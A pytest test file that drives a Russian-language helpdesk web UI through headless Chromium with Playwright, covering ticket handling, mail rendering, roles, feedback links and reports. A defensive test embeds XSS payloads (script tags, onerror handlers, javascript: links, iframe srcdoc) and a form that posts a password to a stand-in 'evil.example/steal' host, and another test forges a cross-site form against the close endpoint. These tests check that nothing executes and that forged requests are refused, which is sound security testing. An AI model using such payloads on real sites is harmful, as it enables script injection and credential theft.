"""The web UI in a real browser: Debian's Chromium, headless, driven by Playwright,
against `triage serve`'s app on uvicorn, with mail delivered to a real SMTP sink.

Screenshots of the main pages are saved to build/screenshots/ (git-ignored).
"""

from __future__ import annotations

import email
import email.policy
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page

from desk import services
from desk.config import Config, load_config
from desk.services import with_work_dir
from tests.browser_support import chromium
from tests.conftest import TESTS_DIR
from tests.servers import SmtpSink
from tests.test_feedback import answered
from tests.webui_support import (
    PASSWORDS,
    Served,
    add_users,
    escalated_problem,
    mail,
    seed,
    web_config,
)
from triage import TicketStore
from triage.sla import SlaAssignment

SCREENSHOTS = TESTS_DIR.parent / "build" / "screenshots"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def config(tmp_path: Path, smtp_sink: SmtpSink) -> Config:
    return web_config(with_work_dir(load_config(environ={}), tmp_path), tmp_path, smtp_sink.port)


@pytest.fixture
def store(config: Config) -> Iterator[TicketStore]:
    store = services.open_store(config)
    add_users(store)
    yield store
    store.close()


@pytest.fixture
def served(config: Config, store: TicketStore) -> Iterator[Served]:
    with Served(config) as served:
        yield served


def shot(page: Page, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)


def log_in(browser: Browser, served: Served, username: str, screenshot: bool = False) -> Page:
    page = browser.new_context(locale="ru-RU").new_page()
    page.goto(served.url + "/queue")
    assert "/login" in page.url
    if screenshot:
        shot(page, "login")
    page.fill("input[name=username]", username)
    page.fill("input[name=password]", PASSWORDS[username])
    page.click("form.login button")
    page.wait_for_url("**/queue")
    return page


def received(sink: SmtpSink) -> list[EmailMessage]:
    mails = []
    for item in sink.received:
        message = email.message_from_bytes(item.data, policy=email.policy.default)
        assert isinstance(message, EmailMessage)
        mails.append(message)
    return mails


def text_of(message: EmailMessage) -> str:
    body = message.get_body(preferencelist=("plain",))
    assert body is not None
    return str(body.get_content())


def test_an_agent_works_a_ticket_from_the_queue_to_closed(
    browser: Browser, served: Served, config: Config, store: TicketStore, smtp_sink: SmtpSink
) -> None:
    number = seed(config, store, escalated_problem(), "k1")
    late = seed(config, store, escalated_problem(2), "k3")
    past = "2026-11-20T10:00:00+03:00"  # a deadline already missed: highlighted in the queue
    store.set_sla(store.ticket(late).id, SlaAssignment("commercial", "test", None), past, past)
    automatic = mail("Автоответ", "Я в отпуске до 1 декабря.", "<ooo@x.ru>")
    automatic["Auto-Submitted"] = "auto-replied"
    seed(config, store, automatic, "k2")
    page = log_in(browser, served, "irina", screenshot=True)

    row = page.locator(f"tr[data-ticket='{number}']")
    assert row.count() == 1 and "Ошибка обмена с 1С" in row.inner_text()
    rows = page.locator("table.queue tbody tr")
    assert rows.first.get_attribute("data-ticket") == late, "the nearest deadline first"
    assert (
        rows.first.get_attribute("class") == "breached" and "просрочено" in rows.first.inner_text()
    )
    assert row.get_attribute("class") == ""
    shot(page, "queue")
    row.locator("a").click()
    page.wait_for_url(f"**/tickets/{number}")
    assert page.inner_text("#ticket-status") == "в работе у поддержки"
    findings = page.inner_text(".findings")
    assert "7731386419" in findings and "не хватает" in findings
    shot(page, "ticket")

    page.select_option("#form-correct select[name=category]", "integration_1c")
    page.select_option("#form-correct select[name=intent]", "problem")
    page.click("#form-correct button")
    assert page.inner_text("#ticket-category") == "интеграция с 1С"
    page.select_option("#form-assign select[name=assignee]", "irina")
    page.click("#form-assign button")
    assert page.inner_text("#ticket-assignee") == "irina"

    page.select_option("#form-reply select[name=template]", "steps")
    page.fill(
        "#form-reply textarea", "1. Обновите справочник сотрудников в 1С.\n2. Повторите обмен."
    )
    page.click("#form-reply button")
    assert "Письмо отправлено" in page.inner_text("#ok-message")
    assert page.inner_text("#ticket-status") == "ждёт ответа клиента"
    reply = next(m for m in received(smtp_sink) if "Обновите справочник" in text_of(m))
    assert reply["To"].addresses[0].addr_spec == "o.petrova@stlogistic.ru"
    assert reply["In-Reply-To"] == "<problem-1@stlogistic.ru>"
    assert f"[{number}]" in str(reply["Subject"])
    assert "Пожалуйста, выполните следующие шаги:" in text_of(reply)

    page.click("#form-close button")
    assert page.inner_text("#ticket-status") == "закрыта"
    assert page.locator("#actions").count() == 0
    closure = received(smtp_sink)[-1]
    assert "Заявка закрыта" in str(closure["Subject"])
    shot(page, "ticket-closed")
    assert store.ticket(number).status == "closed"
    kinds = [m.kind for m in store.outbox(store.ticket(number).id)]
    assert kinds == ["acknowledgment", "reply", "closure"]
    assert all(m.status == "sent" for m in store.outbox(store.ticket(number).id))

    page.click("header.top a[href='/quarantine']")
    assert "Я в отпуске" not in page.content()
    entry = page.locator("table.quarantine tbody tr").first
    assert "Автоответ" in entry.inner_text() and "automatic mail" in entry.inner_text()
    shot(page, "quarantine")
    entry.locator("button").click()
    page.wait_for_url("**/tickets/WA-*")
    assert "освобождено из карантина" in page.inner_text("#ok-message")
    assert store.quarantined()[0]["released_at"] is not None


HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=9">
<style>body { display: none }</style><script>window.__pwned = 1; alert("script")</script></head>
<body onload="window.__pwned = 2">
<p>Не работает <b>обмен<i> с 1С
<img src="x" onerror="window.__pwned = 3; alert('img')">
<a href="javascript:window.__pwned = 4; alert('link')" id="evil-link">нажмите здесь</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 5">
<script>window.__pwned = 6</script></svg>
<iframe srcdoc="<script>parent.__pwned = 7</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>
<div onmouseover="window.__pwned = 8">наведите<table><tr><td>незакрытая таблица
"""


def test_hostile_mail_executes_nothing(
    browser: Browser, served: Served, config: Config, store: TicketStore
) -> None:
    msg = mail(
        "Ошибка <script>window.__pwned = 10</script>",
        "Текст: <script>window.__pwned = 11</script> <img src=x onerror=alert(1)>",
        "<hostile-1@x.ru>",
        html=HOSTILE_HTML,
        sender='"<img src=x onerror=alert(12)>" <bad@x.ru>',
    )
    msg.add_attachment(
        b"<html><script>alert('attachment')</script></html>",
        maintype="text", subtype="html", filename="report.html",
    )  # fmt: skip
    msg.add_attachment(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>',
        maintype="image", subtype="svg+xml", filename="chart.svg",
    )  # fmt: skip
    number = seed(config, store, msg, "k1")
    page = log_in(browser, served, "irina")
    dialogs: list[str] = []
    violations: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Refused" in message.text:
            violations.append(message.text)

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.goto(f"{served.url}/tickets/{number}")
    for summary in page.locator("details > summary").all():
        summary.click()
    html = page.locator(".mail-html").first
    assert "незакрытая таблица" in html.inner_text()
    html.hover()
    page.locator(".mail-html a").first.click()
    with page.expect_download() as download:
        page.click("text=report.html")
    assert download.value.suggested_filename == "report.html"
    with page.expect_download():
        page.click("text=chart.svg")
    page.wait_for_timeout(300)
    shot(page, "hostile-ticket")

    assert page.url == f"{served.url}/tickets/{number}"
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []
    assert violations == [], "no inline script even reached the page"
    assert "<script>window.__pwned = 10</script>" in page.inner_text("h1")
    assert page.locator(".mail-html script, .mail-html svg, .mail-html iframe").count() == 0
    assert page.locator("img.preview").count() == 0, "SVG and HTML are never previewed"


def test_csrf_and_roles_in_the_browser(
    browser: Browser, served: Served, config: Config, store: TicketStore
) -> None:
    number = seed(config, store, escalated_problem(), "k1")
    reader = log_in(browser, served, "docs")
    reader.goto(f"{served.url}/tickets/{number}")
    assert reader.locator("#actions").count() == 0
    assert reader.locator("header.top a[href='/quarantine']").count() == 0
    shot(reader, "ticket-doc-team")
    token = reader.locator("input[name=csrf_token]").first.get_attribute("value")
    # The page's own script could not even try: the CSP allows no fetch (connect-src).
    status = reader.context.request.post(
        f"{served.url}/tickets/{number}/close", form={"csrf_token": token or ""}
    ).status
    assert status == 403, "doc-team may not act, even with a valid token"
    reader.goto(f"{served.url}/quarantine")
    assert "Доступ запрещён" in reader.inner_text("h1")

    agent = log_in(browser, served, "irina")
    agent.goto(f"{served.url}/tickets/{number}")
    forged = agent.context.request.post(
        f"{served.url}/tickets/{number}/close", form={"csrf_token": "forged"}
    ).status
    assert forged == 403
    attacker = agent.context.new_page()
    attacker.set_content(
        f'<form method="post" action="{served.url}/tickets/{number}/close">'
        '<input name="csrf_token" value="guess"><button id="go">Выиграть приз</button></form>'
    )
    attacker.click("#go")
    attacker.wait_for_load_state()
    assert attacker.locator("#error-message").count() == 1
    assert store.ticket(number).status == "open", "nothing closed the ticket"


def test_feedback_link_clicked_in_a_browser(
    browser: Browser, indexed_config: Config, tmp_path: Path, smtp_sink: SmtpSink
) -> None:
    config = web_config(indexed_config, tmp_path, smtp_sink.port)
    store = services.open_store(config)
    try:
        add_users(store)
        number, links = answered(config, store, 1)
        with Served(config) as served:
            page = browser.new_context().new_page()
            link = links["not_answered"].replace("http://127.0.0.1:8080", served.url)
            page.goto(link)
            page.wait_for_selector("#feedback-result")
            assert "Ваш ответ учтён" in page.inner_text("#feedback-result")
            shot(page, "feedback")
            page.goto(link[:-4] + "abcd")
            assert "недействительна" in page.inner_text("#feedback-result")

            agent = log_in(browser, served, "irina")
            agent.goto(f"{served.url}/answers")
            row = agent.locator(f"tr[data-ticket='{number}']")
            assert "не помогло — не ответил" in row.locator(".outcome").inner_text()
            shot(agent, "answers")
            agent.goto(f"{served.url}/tickets/{number}")
            assert agent.locator("#form-wrong").count() == 1
            assert agent.locator(".doc-links li").count() >= 1
        assert store.ticket(number).status == "open"
        [verdict] = store.feedback()
        assert (verdict["verdict"], verdict["reason"], verdict["via"]) == (
            "not_helpful", "not_answered", "link",
        )  # fmt: skip
    finally:
        store.close()


def test_gap_report_renders_in_the_browser_as_a_page_and_as_a_file(
    browser: Browser, served: Served, store: TicketStore, tmp_path: Path
) -> None:
    from datetime import UTC, datetime, timedelta

    from insights import write_report
    from tests.test_insights import Builder

    builder = Builder(store)
    now = datetime.now(UTC)
    for day, text in enumerate(
        (
            "Как оформить командировку сотруднику в кабинете?",
            "Командировка: где оформить приказ о командировке?",
            "Оформление командировки через личный кабинет — где это?",
            "Как подписать заявление на отпуск?",
        )
    ):
        builder.ticket(now - timedelta(days=day + 1), "escalate", text)
    violations: list[str] = []

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Refused" in message.text:
            violations.append(message.text)

    page = log_in(browser, served, "docs")
    page.on("console", on_console)
    page.goto(f"{served.url}/report")
    assert "Пробелы в документации" in page.inner_text("h1")
    assert "командиров" in page.inner_text(".report")
    assert page.locator(".report svg").count() >= 1, "the charts are drawn"
    styled = page.evaluate("getComputedStyle(document.querySelector('.report th')).backgroundColor")
    assert styled == "rgb(238, 243, 251)", "the report's style sheet applies under the CSP"
    shot(page, "report")
    assert violations == []

    out = tmp_path / "report.html"
    write_report(store, out, now - timedelta(days=30), now)
    file_page = browser.new_context().new_page()
    requests: list[str] = []
    file_page.on("request", lambda request: requests.append(request.url))
    file_page.goto(out.as_uri())
    assert "командиров" in file_page.inner_text("body")
    assert file_page.locator("svg").count() >= 1
    assert requests == [out.as_uri()], "self-contained: the file loads nothing else"
    shot(file_page, "report-file")
